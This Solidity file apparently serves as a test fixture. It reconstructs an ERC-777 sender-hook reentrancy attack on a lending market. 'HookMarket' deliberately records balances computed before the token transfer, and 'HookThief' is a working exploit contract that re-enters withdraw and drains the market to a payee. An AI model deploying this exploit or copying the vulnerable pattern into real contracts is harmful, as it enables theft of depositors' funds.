// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

import {Pool} from "../props/Markets.sol";
import {Shop} from "../props/Shop.sol";
import {Token} from "../props/Tokens.sol";

interface ITokensSender {
    function tokensToSend(address operator, address from, address to, uint256 amount, bytes calldata, bytes calldata) external;
}

/// Who speaks for an account (ERC-1820), cut down to accounts that speak for themselves.
contract Registry1820 {
    mapping(address => mapping(bytes32 => address)) private implementers;

    event InterfaceImplementerSet(address indexed addr, bytes32 indexed interfaceHash, address indexed implementer);

    function setInterfaceImplementer(address account, bytes32 interfaceHash, address implementer) external {
        require(account == msg.sender || account == address(0), "Not the manager");
        implementers[msg.sender][interfaceHash] = implementer;
        emit InterfaceImplementerSet(msg.sender, interfaceHash, implementer);
    }

    function getInterfaceImplementer(address account, bytes32 interfaceHash) external view returns (address) {
        return implementers[account][interfaceHash];
    }
}

/// An ERC-777 in the shape in which it was used: ERC-20 calls, and senders are asked before their tokens leave.
contract HookToken is Token {
    Registry1820 public immutable registry;
    bytes32 private constant SENDER = keccak256("ERC777TokensSender");

    event Sent(address indexed operator, address indexed from, address indexed to, uint256 amount, bytes data, bytes operatorData);

    constructor(Registry1820 registry_) Token("imBTC", 8) {
        registry = registry_;
    }

    function _move(address from, address to, uint256 value) internal override {
        address hook = registry.getInterfaceImplementer(from, SENDER);
        if (hook != address(0)) ITokensSender(hook).tokensToSend(msg.sender, from, to, value, "", "");
        super._move(from, to, value);
        emit Sent(msg.sender, from, to, value, "", "");
    }
}

/// A money market for several assets, which adds up what an account has from what it had before the transfer.
contract HookMarket {
    mapping(address => mapping(Token => uint256)) public supplied;
    mapping(Token => uint256) public totalSupplied;

    event SupplyReceived(address account, address asset, uint256 amount, uint256 startingBalance, uint256 newBalance);
    event SupplyWithdrawn(address account, address asset, uint256 amount, uint256 startingBalance, uint256 newBalance);

    function supply(Token asset, uint256 amount) external {
        uint256 before = supplied[msg.sender][asset];
        uint256 afterwards = before + amount;
        uint256 total = totalSupplied[asset] + amount;
        asset.transferFrom(msg.sender, address(this), amount);
        supplied[msg.sender][asset] = afterwards;
        totalSupplied[asset] = total;
        emit SupplyReceived(msg.sender, address(asset), amount, before, afterwards);
    }

    function withdraw(Token asset, uint256 requested) external {
        uint256 before = supplied[msg.sender][asset];
        uint256 amount = requested == type(uint256).max ? before : requested;
        supplied[msg.sender][asset] = before - amount;
        totalSupplied[asset] -= amount;
        asset.transfer(msg.sender, amount);
        emit SupplyWithdrawn(msg.sender, address(asset), amount, before, before - amount);
    }

    /// What depositors are owed beyond what is here.
    function missing(Token asset) external view returns (uint256) {
        uint256 held = asset.balanceOf(address(this));
        return totalSupplied[asset] > held ? totalSupplied[asset] - held : 0;
    }
}

/// Withdraws what it has from within its own next deposit, which then remembers it all the same.
contract HookThief is ITokensSender {
    HookMarket private market;
    HookToken private token;
    bool private armed;

    function enrol(HookMarket market_, HookToken token_) private {
        (market, token) = (market_, token_);
        token.registry().setInterfaceImplementer(address(this), keccak256("ERC777TokensSender"), address(this));
        token.approve(address(market), type(uint256).max);
    }

    function run(HookMarket market_, HookToken token_, Pool pool, uint256 rounds, address payee) external payable {
        enrol(market_, token_);
        Shop.buy(pool, msg.value);
        for (uint256 i = 0; i < rounds; i++) {
            uint256 mine = token.balanceOf(address(this));
            market.supply(token, mine - 1);
            armed = true;
            market.supply(token, 1);
            market.withdraw(token, type(uint256).max);
        }
        token.transfer(payee, token.balanceOf(address(this)));
    }

    function tokensToSend(address, address, address to, uint256 amount, bytes calldata, bytes calldata) external {
        if (armed && to == address(market) && amount == 1) {
            armed = false;
            market.withdraw(token, type(uint256).max);
        }
    }
}

/// Keeps two assets of one fund in balance: whenever its bitcoin goes to the market, its dollars come out of it, for the
/// fund's spending.
contract HookFund is ITokensSender {
    address private immutable owner = msg.sender;
    HookMarket private immutable market;
    HookToken private immutable token;
    Token private immutable dollar;

    constructor(HookMarket market_, HookToken token_, Token dollar_) {
        (market, token, dollar) = (market_, token_, dollar_);
        token.registry().setInterfaceImplementer(address(this), keccak256("ERC777TokensSender"), address(this));
    }

    function shelve(uint256 dollars) external {
        require(msg.sender == owner, "not the owner");
        dollar.approve(address(market), dollars);
        market.supply(dollar, dollars);
    }

    function swapSides(uint256 amount) external {
        require(msg.sender == owner, "not the owner");
        token.approve(address(market), amount);
        market.supply(token, amount);
    }

    function tokensToSend(address, address, address to, uint256, bytes calldata, bytes calldata) external {
        if (to != address(market)) return;
        market.withdraw(dollar, type(uint256).max);
        dollar.transfer(owner, dollar.balanceOf(address(this)));
    }
}
